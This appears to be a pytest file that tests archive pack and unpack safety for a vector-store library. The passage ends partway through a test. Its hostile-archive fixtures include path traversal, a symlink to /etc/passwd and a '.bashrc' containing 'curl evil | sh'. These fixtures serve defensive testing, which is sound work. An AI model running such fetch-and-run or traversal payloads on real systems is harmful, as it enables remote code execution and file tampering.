"""Stores as artifacts: pack, unpack (hostile archives too), read-only media,
reproducible builds and packs, self-description, nothing executable."""

from __future__ import annotations

import ast
import copy
import hashlib
import io
import json
import os
import shutil
import stat
import subprocess
import sys
import tarfile
from pathlib import Path

import lmdb
import numpy as np
import pytest
import zstandard
from click.testing import CliRunner

import retrostore
from _checkout import checkout_cli
from retrostore import (
    CorruptStoreError,
    EmbedderMismatchError,
    FormatVersionError,
    InvalidInputError,
    NoRawVectorsError,
    StoreExistsError,
    UnsafeArchiveError,
)
from retrostore.storage.vectors import require_raw_vectors
from retrostore.storage.manifest import FORMAT_VERSION, encode_manifest

ROOT = Path(__file__).resolve().parents[1]
LFS_POINTER = (
    b"version https://git-lfs.github.com/spec/v1\n"
    b"oid sha256:4d7a214614ab2935c943f9e0ff69d22eadbb8f32b1258daaa5e2ca24d17e2393\n"
    b"size 12345\n"
)


cli = checkout_cli()


class HashEmbedder:
    """A cheap deterministic 16-d embedder with its own (non-default) model checksum."""

    dim = 16
    fingerprint = {"kind": "test", "name": "hash16", "model_sha256": "ab" * 32, "dim": 16}
    tokenizer_path = retrostore.default_tokenizer_path()

    def embed(self, texts):
        raw = np.stack([np.frombuffer(hashlib.sha256(t.encode()).digest()[:16], np.uint8) for t in texts])
        vecs = raw.astype(np.float32) + 1
        return vecs / np.linalg.norm(vecs, axis=1, keepdims=True)


def _docs(small_docs):
    return [d["text"] for d in small_docs[:12]], [d["meta"] for d in small_docs[:12]]


@pytest.fixture(scope="module")
def hash_store(tmp_path_factory, small_docs):
    """Two commits of real text with the hash embedder (read-only use)."""
    texts, metas = _docs(small_docs)
    path = tmp_path_factory.mktemp("art") / "hash.rstore"
    with retrostore.create(path, embedder=HashEmbedder()) as st:
        st.append(texts[:6], metadata=metas[:6])
        st.commit()
        st.append(texts[6:], metadata=metas[6:])
        st.commit()
    return path


@pytest.fixture(scope="module")
def hash_tar(tmp_path_factory, hash_store):
    out = tmp_path_factory.mktemp("art-tar") / "hash.tar"
    retrostore.pack(hash_store, out)
    return out


def _snapshot(root: Path, dir_mtimes: bool = True) -> list:
    """Every entry under root with its size, mode and mtime (ns). Without
    ``dir_mtimes`` a directory's mtime is left out (unpack's temporary directory
    beside DEST touches its parent's mtime, and nothing else)."""
    out = []
    for dirpath, dirs, files in os.walk(root):
        for name in sorted(dirs + files):
            p = Path(dirpath) / name
            s = p.lstat()
            mtime = s.st_mtime_ns if dir_mtimes or not stat.S_ISDIR(s.st_mode) else None
            out.append((str(p.relative_to(root)), s.st_size, s.st_mode, mtime))
    return sorted(out)


def _members(archive: Path) -> list[tuple[tarfile.TarInfo, bytes | None]]:
    with tarfile.open(archive) as tf:
        return [(m, tf.extractfile(m).read() if m.isreg() else None) for m in tf.getmembers()]


def _write_tar(path: Path, members) -> Path:
    with tarfile.open(path, "w", format=tarfile.PAX_FORMAT) as tf:
        for ti, data in members:
            ti = copy.copy(ti)
            if data is None:
                tf.addfile(ti)
            else:
                ti.size = len(data)
                tf.addfile(ti, io.BytesIO(data))
    return path


def _refuse(tmp_path, members_or_bytes, exc_type, match, **kw):
    """Unpack a crafted archive; assert the error and that nothing was written anywhere."""
    (tmp_path / "in").mkdir(exist_ok=True)
    (tmp_path / "out").mkdir(exist_ok=True)
    archive = tmp_path / "in" / "hostile.tar"
    if isinstance(members_or_bytes, bytes):
        archive.write_bytes(members_or_bytes)
    else:
        _write_tar(archive, members_or_bytes)
    before = _snapshot(tmp_path, dir_mtimes=False)
    dest = tmp_path / "out" / "store.rstore"
    with pytest.raises(exc_type, match=match) as info:
        retrostore.unpack(archive, dest, **kw)
    assert _snapshot(tmp_path, dir_mtimes=False) == before, "unpack left something behind"
    assert not dest.exists()
    return info.value


def _edit_manifest(members, fn):
    out = []
    for ti, data in members:
        if ti.name == "manifest.json":
            body = json.loads(data)["body"]
            fn(body)
            data = encode_manifest(body)
        out.append((ti, data))
    return out


def _file(name, data=b"x", **attrs):
    ti = tarfile.TarInfo(name)
    for k, v in attrs.items():
        setattr(ti, k, v)
    return ti, data


def _special(name, type_, linkname=""):
    ti = tarfile.TarInfo(name)
    ti.type = type_
    ti.linkname = linkname
    return ti, None


# -- round trip on a real store, read-only media ----------------------------------
def test_pack_unpack_readonly_same_results(tmp_path, built_store, embedder):
    archive = tmp_path / "pub" / "small.tar.zst"
    packed = retrostore.pack(built_store, archive)
    assert packed.path == archive and archive.read_bytes()[:4] == b"\x28\xb5\x2f\xfd"
    dest = tmp_path / "elsewhere" / "small.rstore"
    res = retrostore.unpack(archive, dest)
    assert res.version == packed.version and res.manifest_sha256 == packed.manifest_sha256
    assert res.manifest_sha256 == hashlib.sha256((dest / "manifest.json").read_bytes()).hexdigest()
    assert not (dest / "chunks.lmdb" / "lock.mdb").exists() and not (dest / "LOCK").exists()

    queries = ["decode base64 encoded data back into bytes", "the python tutorial", "license agreement"]
    with retrostore.open(built_store, embedder=embedder) as st:
        want = st.search(queries, k=5)
        want_doc = st.get_document(3)
        want_info = st.info()

    subprocess.run(["chmod", "-R", "a-w", str(dest)], check=True)
    try:
        before = _snapshot(dest)
        with retrostore.open(dest) as st:  # default embedder: no argument needed
            assert st.readonly_media
            assert st.verify() == []
            got = st.search(queries, k=5)
            assert st.get_document(3) == want_doc
            info = st.info()
        res = CliRunner().invoke(cli, ["verify", str(dest)])
        assert res.exit_code == 0, res.output
        res = CliRunner().invoke(cli, ["inspect", str(dest), "--json"])
        assert res.exit_code == 0, res.output
        assert _snapshot(dest) == before, "opening on read-only media wrote something"
    finally:
        subprocess.run(["chmod", "-R", "u+w", str(dest)], check=True)
    for w_row, g_row in zip(want, got):
        assert [h.chunk_id for h in g_row] == [h.chunk_id for h in w_row]
        np.testing.assert_allclose([h.score for h in g_row], [h.score for h in w_row], rtol=1e-6)
        assert [h.text for h in g_row] == [h.text for h in w_row]
        assert [h.continuation_text for h in g_row] == [h.continuation_text for h in w_row]
    # self-describing: the fingerprints survive the trip
    cli_info = json.loads(res.output)
    for d in (info, cli_info):
        assert d["embedder"] == want_info["embedder"] and d["tokenizer"] == want_info["tokenizer"]
        assert d["manifest_sha256"] == packed.manifest_sha256
    assert want_info["manifest_sha256"] == hashlib.sha256((built_store / "manifest.json").read_bytes()).hexdigest()
    assert want_info["manifest_sha256"] == packed.manifest_sha256  # the source store shows the published value


def test_unpacked_store_is_writable_when_media_is(tmp_path, hash_tar, small_docs):
    dest = tmp_path / "w.rstore"
    retrostore.unpack(hash_tar, dest)
    with retrostore.open(dest, mode="a", embedder=HashEmbedder()) as st:
        n = len(st)
        st.append("one more document, appended after unpacking")
        assert st.commit() == 3
        assert st.verify() == []
    with retrostore.open(dest, embedder=HashEmbedder()) as st:
        assert len(st) > n and st.verify() == []
        assert st.info()["retained_versions"] == [2, 3]


# -- what goes into the archive ----------------------------------------------------
def test_archive_layout_and_reproducible_bytes(tmp_path, hash_store, hash_tar):
    members = _members(hash_tar)
    names = [m.name for m, _ in members]
    assert names[0] == "manifest.json" and names[1:] == sorted(names[1:])
    assert "chunks.lmdb/data.mdb" in names and not any("lock" in n.lower() for n in names)
    with retrostore.open(hash_store, embedder=HashEmbedder()) as st:
        m = st.manifest
    want = {"manifest.json", "chunks.lmdb/data.mdb", f"versions/manifest-{m['version']:012d}.json", "tokenizer.json"}
    want |= {e["path"] for e in m["index"]["segments"] + m["vectors"]["files"]}
    want |= {e["sums"]["path"] for e in m["vectors"]["files"]}  # format 4: block checksums of raw vectors
    assert {n for (mm, _), n in zip(members, names) if mm.isreg()} == want
    mtimes = {mm.mtime for mm, _ in members}
    assert len(mtimes) == 1
    for mm, _ in members:
        assert (mm.uid, mm.gid, mm.uname, mm.gname) == (0, 0, "", "")
        assert mm.mode == (0o755 if mm.isdir() else 0o644)

    # the same version packed again, here and in a fresh process, gives the same bytes
    again = retrostore.pack(hash_store, tmp_path / "again.tar")
    assert again.path.read_bytes() == hash_tar.read_bytes()
    code = (f"import sys; sys.path.insert(0, {str(ROOT)!r}); import retrostore; "
            f"retrostore.pack({str(hash_store)!r}, {str(tmp_path / 'child.tar.zst')!r})")
    subprocess.run([sys.executable, "-c", code], check=True, timeout=120)
    retrostore.pack(hash_store, tmp_path / "parent.tar.zst")
    assert (tmp_path / "child.tar.zst").read_bytes() == (tmp_path / "parent.tar.zst").read_bytes()
    with pytest.raises(StoreExistsError, match="overwrite"):
        retrostore.pack(hash_store, tmp_path / "again.tar")
    retrostore.pack(hash_store, tmp_path / "again.tar", overwrite=True)
    (tmp_path / "dangling.tar").symlink_to(tmp_path / "nowhere" / "x.tar")  # (helper-60: replaced without force)
    with pytest.raises(retrostore.OutputExistsError, match="overwrite"):
        retrostore.pack(hash_store, tmp_path / "dangling.tar")
    assert (tmp_path / "dangling.tar").is_symlink()
    with pytest.raises(retrostore.InvalidInputError, match=r"\.tar\.zst"):
        retrostore.pack(hash_store, tmp_path / "x.zip")


def test_only_committed_records_compacted(tmp_path, hash_store, hash_tar):
    src = tmp_path / "src.rstore"
    shutil.copytree(hash_store, src)
    clean = retrostore.pack(src, tmp_path / "clean.tar")
    with retrostore.open(src, mode="a", embedder=HashEmbedder()) as writer:
        writer.append(["staged but never committed " * 40] * 3)  # records beyond the high-water marks
        hwm = writer.manifest
        dirty = retrostore.pack(src, tmp_path / "dirty.tar")  # packed while the writer holds them
        assert writer._table.stats()["chunks"]["entries"] > hwm["next_chunk_id"]
    # the staged records change nothing: the archive is byte-identical to the one packed before
    assert dirty.path.read_bytes() == clean.path.read_bytes()
    dest = tmp_path / "u.rstore"
    retrostore.unpack(dirty.path, dest)
    data = dest / "chunks.lmdb" / "data.mdb"
    with lmdb.open(str(dest / "chunks.lmdb"), readonly=True, lock=False, max_dbs=8) as env:
        info, psize = env.info(), env.stat()["psize"]
        with env.begin() as txn:
            counts = {n: txn.stat(env.open_db(n.encode(), txn=txn))["entries"] for n in ("chunks", "docs", "commits")}
    assert counts == {"chunks": hwm["next_chunk_id"], "docs": hwm["next_doc_id"], "commits": hwm["version"]}
    assert data.stat().st_size == (info["last_pgno"] + 1) * psize  # compacted: no slack pages
    assert data.stat().st_size <= (hash_store / "chunks.lmdb" / "data.mdb").stat().st_size
    assert not (dest / "chunks.lmdb" / "lock.mdb").exists()


def test_no_vectors_slim_artifact(tmp_path, hash_store):
    res = CliRunner().invoke(cli, ["pack", str(hash_store), str(tmp_path / "slim.tar.zst"), "--no-vectors"])
    assert res.exit_code == 0, res.output
    assert "raw vectors dropped" in res.output
    names = [m.name for m, _ in _members_zst(tmp_path / "slim.tar.zst")]
    assert "vectors" in names and not any(n.startswith("vectors/") for n in names)
    dest = tmp_path / "slim.rstore"
    res = CliRunner().invoke(cli, ["unpack", str(tmp_path / "slim.tar.zst"), str(dest)])
    assert res.exit_code == 0, res.output
    with retrostore.open(dest, embedder=HashEmbedder()) as st:
        m = st.manifest
        assert m["vectors"]["files"] == [] and m["vectors"]["dropped_at_pack"] is True
        assert m["settings"]["keep_vectors"] is False
        assert st.verify() == []
        assert len(st.search("python", k=3)) == 3
    with pytest.raises(NoRawVectorsError, match="--no-vectors"):
        require_raw_vectors(m, "reindex")
    with retrostore.open(hash_store, embedder=HashEmbedder()) as st:
        require_raw_vectors(st.manifest, "reindex")  # the full store keeps them
    with retrostore.open(dest, embedder=HashEmbedder()) as st:
        from retrostore.storage.segments import Segment

        # as if the index could not give its vectors back (IVF-PQ, LSH, ...)
        real, Segment.exact = Segment.exact, property(lambda self: False)
        try:
            with pytest.raises(NoRawVectorsError, match="dropped when this store was packed"):
                st._head.version.stored_vectors(0, len(st))
        finally:
            Segment.exact = real
    with retrostore.open(dest, mode="a", embedder=HashEmbedder()) as st:
        st.append("a slim store still takes new documents")
        st.commit()
        assert st.verify() == [] and st.manifest["vectors"]["files"] == []
        st.reindex("SQfp16", progress=False)  # from the exact segments; a float16 codec rounds them
        with pytest.raises(NoRawVectorsError, match="dropped when this store was packed"):
            st.reindex("Flat", progress=False)


def test_keep_vectors_false_explains_reindex(tmp_path):
    with retrostore.create(tmp_path / "nv", embedder=HashEmbedder(), keep_vectors=False) as st:
        st.append("some text " * 30)
        st.commit()
        with pytest.raises(NoRawVectorsError, match="keep_vectors=False"):
            require_raw_vectors(st.manifest, "reindex")


def _members_zst(path):
    raw = zstandard.ZstdDecompressor().stream_reader(open(path, "rb"), read_across_frames=True)
    data = raw.read()
    with tarfile.open(fileobj=io.BytesIO(data)) as tf:
        return [(m, None) for m in tf.getmembers()]


# -- reproducible builds ---------------------------------------------------------
def test_build_twice_same_chunks_tokens_and_results(tmp_path, small_docs, embedder):
    docs = small_docs[:3] + small_docs[-1:]
    paths = []
    for name in ("a", "b"):
        path = tmp_path / f"{name}.rstore"
        with retrostore.create(path, embedder=embedder) as st:
            st.append([d["text"] for d in docs], metadata=[d["meta"] for d in docs])
            st.commit()
        paths.append(path)
    seen = []
    for path in paths:
        with retrostore.open(path, embedder=embedder) as st:
            chunks = st.get_chunks(range(len(st)))
            seen.append({
                "chain": st.manifest["lmdb"]["chain"],
                "chunks": [(c.chunk_id, c.doc_id, c.position, c.start, c.text, c.tokens.tolist()) for c in chunks],
                "hits": st.search(["decode base64 encoded data back into bytes", "what's new"], k=4),
            })
    a, b = seen
    assert a["chain"] == b["chain"]  # same records, byte for byte
    assert a["chunks"] == b["chunks"]
    for ra, rb in zip(a["hits"], b["hits"]):
        assert [h.chunk_id for h in ra] == [h.chunk_id for h in rb]
        np.testing.assert_allclose([h.score for h in ra], [h.score for h in rb], rtol=1e-5)
    # and the packed LMDB is the same file for both builds
    for i, path in enumerate(paths):
        retrostore.pack(path, tmp_path / f"{i}.tar")
    mdb = [dict((m.name, d) for m, d in _members(tmp_path / f"{i}.tar"))["chunks.lmdb/data.mdb"] for i in (0, 1)]
    assert mdb[0] == mdb[1]


# -- hostile archives ---------------------------------------------------------------
def _traversal(members):
    return members + [_file("../evil.txt")]


def _nested_traversal(members):
    return members + [_file("index/../../evil.txt")]


def _absolute(members, tmp_path):
    return members + [_file(str(tmp_path / "out" / "abs-evil.txt"))]


HOSTILE = [
    ("traversal", _traversal, r"'\.\.' \(path traversal\)"),
    ("nested-traversal", _nested_traversal, r"path traversal"),
    ("symlink", lambda m: m + [_special("index/link", tarfile.SYMTYPE, "/etc/passwd")], "symbolic link"),
    ("relative-symlink", lambda m: [_special("index", tarfile.SYMTYPE, "..")] + m, "symbolic link"),
    ("hardlink", lambda m: m + [_special("index/hard", tarfile.LNKTYPE, "manifest.json")], "hard link"),
    ("chardev", lambda m: m + [_special("index/null", tarfile.CHRTYPE)], "device file"),
    ("blockdev", lambda m: m + [_special("index/sda", tarfile.BLKTYPE)], "device file"),
    ("fifo", lambda m: m + [_special("index/fifo", tarfile.FIFOTYPE)], "FIFO"),
    ("hidden-file", lambda m: m + [_file(".bashrc", b"curl evil | sh")], "not a plain file name"),
    ("deep-path", lambda m: m + [_file("index/a/b.faiss")], "layout"),
    ("unknown-dir", lambda m: m + [_file("bin/run.sh", b"#!/bin/sh\n", mode=0o755)], "layout"),
    ("unreferenced-file", lambda m: m + [_file("index/extra.faiss", b"\0" * 64)], "does not reference"),
    ("executable-script", lambda m: m + [_file("run.sh", b"#!/bin/sh\n", mode=0o755)], "does not reference"),
    ("duplicate", lambda m: m + [m[0]], "appears twice"),
]


@pytest.mark.parametrize("name,edit,match", HOSTILE, ids=[h[0] for h in HOSTILE])
def test_hostile_members_refused(tmp_path, hash_tar, name, edit, match):
    _refuse(tmp_path, edit(_members(hash_tar)), UnsafeArchiveError, match)


def test_absolute_path_refused(tmp_path, hash_tar):
    _refuse(tmp_path, _absolute(_members(hash_tar), tmp_path), UnsafeArchiveError, "absolute path")


def test_hostile_zstd_archive_refused(tmp_path, hash_tar):
    plain = _write_tar(tmp_path / "p.tar", _traversal(_members(hash_tar)))
    data = zstandard.ZstdCompressor().compress(plain.read_bytes())
    plain.unlink()
    _refuse(tmp_path, data, UnsafeArchiveError, "path traversal")


def test_member_data_bigger_than_its_header(tmp_path, hash_tar):
    """A header that understates its member's size: the surplus would be read as
    the next header (smuggled members); it is refused, not silently dropped. (Not data.mdb, whose
    size unpack checks against its meta pages before the rest of it is read.)"""
    members = _members(hash_tar)
    victim = max((ti for ti, data in members if data is not None and ti.name != "chunks.lmdb/data.mdb"),
                 key=lambda ti: ti.size)
    assert victim.size > 2048, victim  # a vectors file
    buf = io.BytesIO()
    for ti, data in members:
        ti = copy.copy(ti)
        if ti.name == victim.name:
            ti.size = len(data) - 1024  # understated by two blocks
        buf.write(ti.tobuf(tarfile.PAX_FORMAT))
        if data is not None:
            buf.write(data + b"\0" * (-len(data) % 512))
    buf.write(b"\0" * 1024)
    _refuse(tmp_path, buf.getvalue(), UnsafeArchiveError, "bigger than its header declares")


def test_member_bigger_than_manifest_declares(tmp_path, hash_tar):
    members = [(ti, data + b"\0" * 4096 if ti.name.startswith("index/") else data)
               for ti, data in _members(hash_tar)]
    _refuse(tmp_path, members, UnsafeArchiveError, "bigger than the .* bytes the manifest declares")
    # the same when the manifest comes last (an archive not made by pack)
    members = members[1:] + members[:1]
    _refuse(tmp_path, members, UnsafeArchiveError, "bigger than the .* bytes the manifest declares")


def test_manifest_naming_file_outside_store(tmp_path, hash_tar):
    def outside(body):
        body["index"]["segments"][0]["path"] = "../outside.faiss"

    _refuse(tmp_path, _edit_manifest(_members(hash_tar), outside), UnsafeArchiveError, "escapes the store")

    def absolute(body):
        body["tokenizer"]["path"] = "/etc/passwd"

    _refuse(tmp_path, _edit_manifest(_members(hash_tar), absolute), UnsafeArchiveError, "escapes the store")


def test_pack_of_a_store_missing_a_file_blames_the_store(tmp_path, built_store):
    """helper-16: a missing index file was reported as 'cannot write OUT.tar' (an OSError), blaming
    the archive; it is the store that is damaged, and nothing is left at the output."""
    copy = tmp_path / "copy.rstore"
    shutil.copytree(built_store, copy)
    seg = sorted((copy / "index").glob("seg-*"))[0]
    seg.unlink()
    with pytest.raises(CorruptStoreError, match=rf"index/{seg.name}, a file the manifest names, is missing"):
        retrostore.pack(copy, tmp_path / "out.tar")
    assert not list(tmp_path.glob("*out.tar*"))


def test_pack_refuses_deleted_documents_until_compact_purges_them(tmp_path, built_store, embedder):
    """helper-17: a store with a delete but no compact shipped the deleted documents' text in the
    archive's data.mdb, verbatim: a take-down must not travel in an artifact."""
    copy = tmp_path / "copy.rstore"
    shutil.copytree(built_store, copy)
    with retrostore.open(copy, "a", embedder=embedder) as st:
        gone = st.get_document(1).text
        st.delete([1])
        st.commit()
    with pytest.raises(InvalidInputError, match=r"1 deleted document\(s\) not purged yet \(1\).*retrostore compact"):
        retrostore.pack(copy, tmp_path / "out.tar")
    assert not list(tmp_path.glob("*out.tar*"))
    with retrostore.open(copy, "a", embedder=embedder) as st:
        st.compact(progress=False)
    retrostore.pack(copy, tmp_path / "out.tar")
    needle = max(gone.split("\n"), key=len).encode()  # a long line of the deleted document
    assert len(needle) > 40 and needle in (built_store / "chunks.lmdb" / "data.mdb").read_bytes()
    assert needle not in (tmp_path / "out.tar").read_bytes()


def test_git_lfs_pointer_in_place_of_index(tmp_path, hash_tar):
    members = [(ti, LFS_POINTER if ti.name.startswith("index/") and ti.isreg() else data)
               for ti, data in _members(hash_tar)]
    err = _refuse(tmp_path, members, CorruptStoreError, "Git LFS pointer")
    assert "git lfs pull" in str(err) and "index/seg-" in str(err)


def test_newer_format_refused_with_both_versions(tmp_path, hash_tar):
    def newer(body):
        body["format_version"] = FORMAT_VERSION + 7
        body["min_reader_version"] = FORMAT_VERSION + 7

    err = _refuse(tmp_path, _edit_manifest(_members(hash_tar), newer), FormatVersionError, "Upgrade retrostore")
    assert f"format_version {FORMAT_VERSION + 7}" in str(err) and f"format version {FORMAT_VERSION}" in str(err)


@pytest.mark.parametrize("field, value, match", [
    ("chain", None, r"lmdb.chain is None, expected the sha256"),
    ("chain", "drop", r"lmdb.chain is None"),
    ("token_dtype", "x", r"tokenizer.token_dtype is 'x', expected '<u2'"),
    ("token_dtype", "<u4", r"tokenizer.token_dtype is '<u4', expected '<u2' for a vocabulary of 30,522 ids"),
    ("purged_chunks", "x", r"deletes.purged_chunks is 'x', expected an int >= 0"),
])
def test_re_signed_manifest_with_a_bad_token_layout_or_chain(tmp_path, hash_tar, field, value, match):
    """helper-48: a manifest re-signed with lmdb.chain null / absent, or token_dtype "x", crashed unpack
    with a TypeError / KeyError; "<u4" for "<u2" unpacked "verified intact" with every chunk's ids wrong."""
    def edit(body):
        part = body["lmdb"] if field == "chain" else body.setdefault("deletes", {}) if field == "purged_chunks" \
            else body["tokenizer"]
        if value == "drop":
            del part[field]
        else:
            part[field] = value

    _refuse(tmp_path, _edit_manifest(_members(hash_tar), edit), CorruptStoreError, match)


def _edit_lmdb(members, tmp_path, fn):
    """The archive's members with its data.mdb rewritten by ``fn(env)`` (then copied compacted, as pack does)."""
    work = tmp_path / "lmdb-edit"
    (work / "src").mkdir(parents=True)
    out = []
    for ti, data in members:
        if ti.name == "chunks.lmdb/data.mdb":
            (work / "src" / "data.mdb").write_bytes(data)
            env = lmdb.open(str(work / "src"), max_dbs=8, lock=False)
            fn(env)
            (work / "dst").mkdir()
            env.copy(str(work / "dst"), compact=True)
            env.close()
            data = (work / "dst" / "data.mdb").read_bytes()
        out.append((ti, data))
    return out


def _extra_database(env):
    with env.begin(write=True) as txn:
        txn.put(b"k", b"hidden", db=env.open_db(b"evil", txn=txn))


def _record_past_the_high_water_mark(env):
    with env.begin(write=True) as txn:
        db = env.open_db(b"chunks", txn=txn)
        last = txn.cursor(db)
        last.last()
        txn.put((int.from_bytes(last.key(), "big") + 1).to_bytes(8, "big"), b"hidden", db=db)


def test_data_mdb_holds_only_the_committed_records(tmp_path, hash_tar, monkeypatch):
    """helper-48: the manifest names no size or checksum for data.mdb, and bytes appended to it (2 GiB
    from a 328 KB .tar.zst), a named database of its own, or a record past the committed ones all
    unpacked "verified intact"; each is refused now, with nothing left behind. Bytes appended are
    refused before data.mdb is written (its meta pages say where it ends): the 2 GiB were written out
    first, and the default limits allowed 256 GiB."""
    from retrostore.ship import unpack as _unpack

    members = _members(hash_tar)
    padded = [(ti, data + bytes(1 << 16) if ti.name == "chunks.lmdb/data.mdb" else data) for ti, data in members]
    opened = []
    real_writer = _unpack.fileio.DurableWriter
    monkeypatch.setattr(_unpack.fileio, "DurableWriter", lambda path, **kw: (opened.append(path.name),
                                                                           real_writer(path, **kw))[1])
    _refuse(tmp_path, padded, CorruptStoreError, r"data.mdb is .* bytes, and LMDB's last page ends at .* holds bytes "
                                                 "no record uses")
    assert "manifest.json" in opened and "data.mdb" not in opened
    lfs = b"version https://git-lfs.github.com/spec/v1\noid sha256:" + b"0" * 64 + b"\nsize 12345\n"
    opened.clear()
    _refuse(tmp_path, [(ti, lfs + bytes(1 << 16) if ti.name == "chunks.lmdb/data.mdb" else data)
                       for ti, data in members], CorruptStoreError, "data.mdb: not an LMDB data file")
    assert "data.mdb" not in opened  # (helper-53: a 1 GiB member starting like a pointer was written out)
    short = [(ti, data[:-4096] if ti.name == "chunks.lmdb/data.mdb" else data) for ti, data in members]
    _refuse(tmp_path, short, CorruptStoreError, r"data.mdb is .* bytes, and LMDB's last page ends at .*: it is "
                                                "truncated")
    monkeypatch.undo()
    _refuse(tmp_path, _edit_lmdb(members, tmp_path / "a", _extra_database), CorruptStoreError,
            r"holds the databases \['chunks', 'commits', 'docs', 'evil'\]")
    _refuse(tmp_path, _edit_lmdb(members, tmp_path / "b", _record_past_the_high_water_mark), CorruptStoreError,
            r"its chunks table holds .* records past the committed ones")
    _refuse(tmp_path, [(ti, _raise_last_page(data, 64) if ti.name == "chunks.lmdb/data.mdb" else data)
                       for ti, data in members], CorruptStoreError, r"data.mdb has .* pages and its tables use .*: "
                                                                   "pages no table reaches")
    retrostore.unpack(hash_tar, tmp_path / "ok")  # the archive as pack wrote it


def _raise_last_page(data: bytes, extra: int) -> bytes:
    """data.mdb with its newest meta page naming ``extra`` more pages, and those pages appended as
    zeros (helper-53: the size then matched what the meta page says)."""
    import struct

    psize = struct.unpack_from("<I", data, 40)[0]
    buf = bytearray(data)
    newest = max((0, psize), key=lambda off: struct.unpack_from("<Q", buf, off + 144)[0])
    last_pg = struct.unpack_from("<Q", buf, newest + 136)[0]
    struct.pack_into("<Q", buf, newest + 136, last_pg + extra)
    return bytes(buf) + bytes(extra * psize)


def test_size_limits(tmp_path, hash_tar):
    members = _members(hash_tar)
    _refuse(tmp_path, members, UnsafeArchiveError, "over the limit", max_member_bytes=10_000)
    _refuse(tmp_path, members, UnsafeArchiveError, "add up to more than", max_total_bytes=100_000)
    _refuse(tmp_path, members, UnsafeArchiveError, "more than 3 members", max_members=3)


def test_damaged_archives(tmp_path, hash_tar):
    data = hash_tar.read_bytes()
    _refuse(tmp_path, b"not a tar file at all" * 100, CorruptStoreError, "not a readable tar")
    _refuse(tmp_path, data[: len(data) // 2], CorruptStoreError, "damaged or truncated")
    _refuse(tmp_path, zstandard.ZstdCompressor().compress(data)[:-100], CorruptStoreError, "truncated")
    flipped = bytearray(data)
    seg = next(m for m, _ in _members(hash_tar) if m.name.startswith("index/"))
    flipped[seg.offset_data + 100] ^= 0xFF
    _refuse(tmp_path, bytes(flipped), CorruptStoreError, "checksum mismatch")
    no_manifest = [(ti, d) for ti, d in _members(hash_tar) if ti.name != "manifest.json"]
    _refuse(tmp_path, no_manifest, CorruptStoreError, "no manifest.json")


def test_published_manifest_checksum(tmp_path, hash_tar):
    info = retrostore.unpack(hash_tar, tmp_path / "ok.rstore", expected_manifest_sha256=None)
    _refuse(tmp_path, _members(hash_tar), UnsafeArchiveError, "not the published store",
            expected_manifest_sha256="0" * 64)
    again = retrostore.unpack(hash_tar, tmp_path / "ok2.rstore", expected_manifest_sha256=info.manifest_sha256.upper())
    assert again.manifest_sha256 == info.manifest_sha256


def test_dest_must_be_new(tmp_path, hash_tar):
    dest = tmp_path / "out" / "store.rstore"
    dest.mkdir(parents=True)
    (dest / "keep.txt").write_text("mine")
    before = _snapshot(tmp_path)
    with pytest.raises(StoreExistsError):
        retrostore.unpack(hash_tar, dest)
    assert _snapshot(tmp_path) == before  # refused before anything, even a temporary directory
    (tmp_path / "afile").write_text("not a directory")
    with pytest.raises(InvalidInputError, match=r"afile is a file, not a directory"):  # helper-17: bare Errno 17
        retrostore.unpack(hash_tar, tmp_path / "afile" / "sub" / "s.rstore")
    empty = tmp_path / "out" / "empty.rstore"
    empty.mkdir()
    assert retrostore.unpack(hash_tar, empty).path == empty


def test_cli_unpack_refuses_hostile_archive(tmp_path, hash_tar):
    archive = _write_tar(tmp_path / "evil.tar", _traversal(_members(hash_tar)))
    res = CliRunner().invoke(cli, ["unpack", str(archive), str(tmp_path / "dest")])
    assert res.exit_code == 1 and "UnsafeArchiveError" in res.output and "Traceback" not in res.output
    assert not (tmp_path / "dest").exists()
    res = CliRunner().invoke(cli, ["unpack", str(hash_tar), str(tmp_path / "d2"), "--expect-manifest-sha256", "0" * 64])
    assert res.exit_code == 1 and "not the published store" in res.output
    # helper-41: a shortened digest (as docs show them, "58a14950...") was "not the published store"
    res = CliRunner().invoke(cli, ["unpack", str(hash_tar), str(tmp_path / "d2"), "--expect-manifest-sha256", "58a14950"])
    assert res.exit_code == 1 and "'58a14950' is not a sha256: give all 64 hex digits" in res.output
    assert not (tmp_path / "d2").exists()


# -- Git LFS pointers in a checked-out store --------------------------------------
def test_git_lfs_pointer_on_open_and_verify(tmp_path, hash_store):
    path = tmp_path / "lfs.rstore"
    shutil.copytree(hash_store, path)
    seg = next((path / "index").iterdir())
    seg.write_bytes(LFS_POINTER)
    with pytest.raises(CorruptStoreError, match=r"Git LFS pointer.*git lfs pull"):
        retrostore.open(path)
    shutil.rmtree(path)
    shutil.copytree(hash_store, path)
    (path / "tokenizer.json").write_bytes(LFS_POINTER)
    # open's cheap size check of every referenced file already tells
    with pytest.raises(CorruptStoreError, match=r"tokenizer\.json.*Git LFS pointer.*git lfs pull"):
        retrostore.open(path, embedder=HashEmbedder())
    shutil.rmtree(path)
    shutil.copytree(hash_store, path)
    (path / "chunks.lmdb" / "data.mdb").write_bytes(LFS_POINTER)
    with pytest.raises(CorruptStoreError, match=r"data\.mdb.*Git LFS pointer"):
        retrostore.open(path)


# -- self-description --------------------------------------------------------------
def test_other_embedder_named_by_checksum_after_unpack(tmp_path, hash_tar):
    dest = tmp_path / "u.rstore"
    retrostore.unpack(hash_tar, dest)
    with retrostore.open(dest) as st:
        with pytest.raises(EmbedderMismatchError, match="ab" * 32):
            st.search("anything")
    with retrostore.open(dest, embedder=HashEmbedder()) as st:
        assert len(st.search("anything", k=2)) == 2
    res = CliRunner().invoke(cli, ["inspect", str(dest)])
    assert res.exit_code == 0, res.output
    assert "hash16" in res.output and "manifest" in res.output


# -- nothing executable ---------------------------------------------------------------
UNSAFE_MODULES = {"pickle", "cPickle", "_pickle", "dill", "cloudpickle", "joblib", "shelve", "marshal"}


def test_no_pickle_in_the_package():
    sources = sorted((ROOT / "retrostore").rglob("*.py")) + sorted((ROOT / "cli").rglob("*.py"))
    assert len(sources) > 10
    problems = []
    for path in sources:
        tree = ast.parse(path.read_text(), str(path))
        for node in ast.walk(tree):
            where = f"{path.relative_to(ROOT)}:{getattr(node, 'lineno', '?')}"
            if isinstance(node, ast.Import):
                problems += [f"{where} imports {a.name}" for a in node.names if a.name.split(".")[0] in UNSAFE_MODULES]
            elif isinstance(node, ast.ImportFrom) and (node.module or "").split(".")[0] in UNSAFE_MODULES:
                problems.append(f"{where} imports from {node.module}")
            elif isinstance(node, ast.Call):
                func = node.func
                name = func.attr if isinstance(func, ast.Attribute) else getattr(func, "id", None)
                if name in ("eval", "exec") and isinstance(func, ast.Name):
